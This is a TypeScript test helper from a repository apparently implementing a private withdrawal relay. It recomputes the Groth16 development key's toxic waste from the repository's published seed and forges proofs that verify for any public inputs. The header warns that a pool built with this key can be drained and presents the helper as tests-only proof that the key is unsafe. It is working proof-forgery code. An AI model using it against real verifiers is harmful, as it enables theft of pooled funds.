/**
 * ############################################################################################
 * #  THIS FILE FORGES GROTH16 PROOFS FOR THE DEVELOPMENT VERIFYING KEY. IT EXISTS TO PROVE    #
 * #  THAT KEY IS UNSAFE: anyone holding this repository recomputes the key's toxic waste and  #
 * #  makes a proof that verifies for ANY public inputs (an invented nullifier, the whole      #
 * #  vault as the amount, any recipient). A pool program built with resources/zk's key       #
 * #  (the committed programs/pool/pool.so) can be drained by anyone. Never deploy it where    #
 * #  money is; use a ceremony's key (docs/ceremony.md). Tests only.       #
 * ############################################################################################
 *
 * How the toxic waste follows from the repository alone: tools/zk/setup.mjs made the
 * development key with the published seed (resources/zk/artifacts.json `seedLabel`) and
 * snarkjs's beacon primitive, each step's beacon hash = sha256("private-withdrawal-relay/zk/"
 * tag ":" seed). A snarkjs beacon derives its key deterministically (node_modules/snarkjs
 * src/misc.js rngFromBeaconParams: the hash iterated 2^numIterationsExp times through sha256,
 * its eight big-endian words seeding ChaCha20):
 * - powers of tau (src/powersoftau_utils.js keyFromBeacon -> keypair.js createPTauKey): τ, α, β
 *   drawn in that order, for the seeded contribution and then the final beacon; the
 *   accumulator starts at 1, so α = α₁·α₂ and β = β₁·β₂;
 * - the zkey (src/zkey_beacon.js): δ drawn first, for the seeded contribution and the final
 *   beacon; zkey new starts δ at 1, so δ = δ₁·δ₂;
 * - γ is never changed: zkey new writes the G2 generator, γ = 1.
 * {@link devToxicWaste} checks α·G1, β·G2 and δ·G2 against the committed vkey before it answers.
 *
 * The forgery: with random a, b, A = a·G1, B = b·G2 and
 * C = ((a·b − α·β)/δ)·G1 − (γ/δ)·vk_x, where vk_x = IC₀ + Σ xᵢ·ICᵢ₊₁, the verifier's
 * e(A, B) = e(α, β)·e(vk_x, γ)·e(C, δ) holds for whatever xᵢ were chosen.
 */
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import type { SnarkjsVerificationKey } from "../../src-shared/zk/verification-key";
import type { SnarkjsProof } from "../../src-shared/zk/proof-codec";

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../..");
export const DEV_VKEY_PATH = path.join(ROOT, "resources/zk/verification_key.json");
const ARTIFACTS_PATH = path.join(ROOT, "resources/zk/artifacts.json");

/** The scalars of the development key's setup; γ is 1 (snarkjs never changes it). */
export interface DevToxicWaste {
  tau: bigint;
  alpha: bigint;
  beta: bigint;
  gamma: bigint;
  delta: bigint;
}

/** The slice of ffjavascript's bn128 curve used here (its field elements and points are opaque buffers). */
type FrElement = Uint8Array;
type Point = Uint8Array;
interface Field {
  e(v: bigint | string): FrElement;
  mul(a: FrElement, b: FrElement): FrElement;
  sub(a: FrElement, b: FrElement): FrElement;
  div(a: FrElement, b: FrElement): FrElement;
  random(): FrElement;
  fromRng(rng: unknown): FrElement;
  toObject(a: FrElement): bigint;
  one: FrElement;
}
interface Group {
  g: Point;
  timesFr(p: Point, s: FrElement): Point;
  add(a: Point, b: Point): Point;
  sub(a: Point, b: Point): Point;
  eq(a: Point, b: Point): boolean;
  fromObject(o: unknown): Point;
  toObject(p: Point): unknown;
  toAffine(p: Point): Point;
}
interface Curve {
  Fr: Field;
  G1: Group;
  G2: Group;
  terminate(): Promise<void>;
}
interface Ffjavascript {
  buildBn128(singleThread?: boolean): Promise<Curve>;
  ChaCha: new (seed: number[]) => unknown;
}

async function withCurve<T>(fn: (curve: Curve) => T): Promise<T> {
  const ff = (await import("ffjavascript")) as unknown as Ffjavascript;
  const curve = await ff.buildBn128(true);
  try {
    return fn(curve);
  } finally {
    await curve.terminate();
  }
}

/** snarkjs's rngFromBeaconParams: sha256 iterated 2^exp times (exp < 32), the result's words seed ChaCha. */
function beaconRng(ChaCha: Ffjavascript["ChaCha"], beaconHex: string, exp: number): unknown {
  let h: Buffer = Buffer.from(beaconHex, "hex");
  for (let i = 0; i < 2 ** exp; i++) h = createHash("sha256").update(h).digest();
  const seed = Array.from({ length: 8 }, (_, i) => h.readUInt32BE(4 * i));
  return new ChaCha(seed);
}

interface Artifacts {
  seedLabel: string;
  beacon: { ptau: string; zkey: string };
  beaconIterationsExp: number;
}

const toBig = (v: unknown): unknown => (typeof v === "string" ? BigInt(v) : Array.isArray(v) ? v.map(toBig) : v);
const toDec = (v: unknown): unknown => (typeof v === "bigint" ? v.toString() : Array.isArray(v) ? v.map(toDec) : v);

function devKey(): SnarkjsVerificationKey {
  return JSON.parse(readFileSync(DEV_VKEY_PATH, "utf8")) as SnarkjsVerificationKey;
}

/** The setup's scalars in ffjavascript's field, checked against the committed vkey's points. */
function recompute(curve: Curve, ChaCha: Ffjavascript["ChaCha"]): { tau: FrElement; alpha: FrElement; beta: FrElement; delta: FrElement } {
  const artifacts = JSON.parse(readFileSync(ARTIFACTS_PATH, "utf8")) as Artifacts;
  const seed = artifacts.seedLabel;
  const exp = artifacts.beaconIterationsExp;
  // setup.mjs's seededHash: public, given the seed.
  const seeded = (tag: string): string => createHash("sha256").update(`private-withdrawal-relay/zk/${tag}:${seed}`).digest("hex");
  const ptauBeacons = [seeded("ptau-contribution"), seeded("ptau-beacon")];
  const zkeyBeacons = [seeded("zkey-contribution"), seeded("zkey-beacon")];
  if (ptauBeacons[1] !== artifacts.beacon.ptau || zkeyBeacons[1] !== artifacts.beacon.zkey) {
    throw new Error("resources/zk/artifacts.json's final beacons are not the ones derived from its seed: the forgery's derivation does not apply");
  }
  const { Fr } = curve;
  let [tau, alpha, beta, delta] = [Fr.one, Fr.one, Fr.one, Fr.one];
  for (const b of ptauBeacons) {
    const rng = beaconRng(ChaCha, b, exp);
    tau = Fr.mul(tau, Fr.fromRng(rng));
    alpha = Fr.mul(alpha, Fr.fromRng(rng));
    beta = Fr.mul(beta, Fr.fromRng(rng));
  }
  for (const b of zkeyBeacons) delta = Fr.mul(delta, Fr.fromRng(beaconRng(ChaCha, b, exp)));

  const vk = devKey();
  const checks: [string, boolean][] = [
    ["alpha", curve.G1.eq(curve.G1.timesFr(curve.G1.g, alpha), curve.G1.fromObject(toBig(vk.vk_alpha_1)))],
    ["beta", curve.G2.eq(curve.G2.timesFr(curve.G2.g, beta), curve.G2.fromObject(toBig(vk.vk_beta_2)))],
    ["gamma", curve.G2.eq(curve.G2.g, curve.G2.fromObject(toBig(vk.vk_gamma_2)))],
    ["delta", curve.G2.eq(curve.G2.timesFr(curve.G2.g, delta), curve.G2.fromObject(toBig(vk.vk_delta_2)))],
  ];
  const wrong = checks.filter(([, ok]) => !ok).map(([n]) => n);
  if (wrong.length > 0) throw new Error(`the recomputed ${wrong.join(", ")} do not match resources/zk/verification_key.json`);
  return { tau, alpha, beta, delta };
}

/** The development key's toxic waste, recomputed from the repository and checked against its vkey. */
export async function devToxicWaste(): Promise<DevToxicWaste> {
  const ff = (await import("ffjavascript")) as unknown as Ffjavascript;
  return withCurve((curve) => {
    const w = recompute(curve, ff.ChaCha);
    return {
      tau: curve.Fr.toObject(w.tau),
      alpha: curve.Fr.toObject(w.alpha),
      beta: curve.Fr.toObject(w.beta),
      gamma: 1n,
      delta: curve.Fr.toObject(w.delta),
    };
  });
}

/**
 * A proof that the DEVELOPMENT verifying key accepts for these public signals (decimal strings
 * in circuit order: root, nullifierHash, recipient, amount, mint, extDataHash, changeCommitment),
 * with no witness at all. snarkjs's proof JSON (affine points), ready for encodeProof(fromSnarkjs()).
 */
export async function forgeDevProof(publicSignals: readonly string[]): Promise<SnarkjsProof> {
  const vk = devKey();
  if (publicSignals.length !== vk.nPublic) throw new Error(`${publicSignals.length} public signals, the key has ${vk.nPublic}`);
  const ff = (await import("ffjavascript")) as unknown as Ffjavascript;
  return withCurve((curve) => {
    const { Fr, G1, G2 } = curve;
    const { alpha, beta, delta } = recompute(curve, ff.ChaCha);
    const gamma = Fr.one;
    let vkX = G1.fromObject(toBig(vk.IC[0]));
    publicSignals.forEach((x, i) => {
      vkX = G1.add(vkX, G1.timesFr(G1.fromObject(toBig(vk.IC[i + 1])), Fr.e(BigInt(x))));
    });
    const a = Fr.random();
    const b = Fr.random();
    const A = G1.timesFr(G1.g, a);
    const B = G2.timesFr(G2.g, b);
    const C = G1.sub(G1.timesFr(G1.g, Fr.div(Fr.sub(Fr.mul(a, b), Fr.mul(alpha, beta)), delta)), G1.timesFr(vkX, Fr.div(gamma, delta)));
    return {
      pi_a: toDec(G1.toObject(G1.toAffine(A))) as string[],
      pi_b: toDec(G2.toObject(G2.toAffine(B))) as string[][],
      pi_c: toDec(G1.toObject(G1.toAffine(C))) as string[],
      protocol: "groth16",
      curve: "bn128",
    };
  });
}
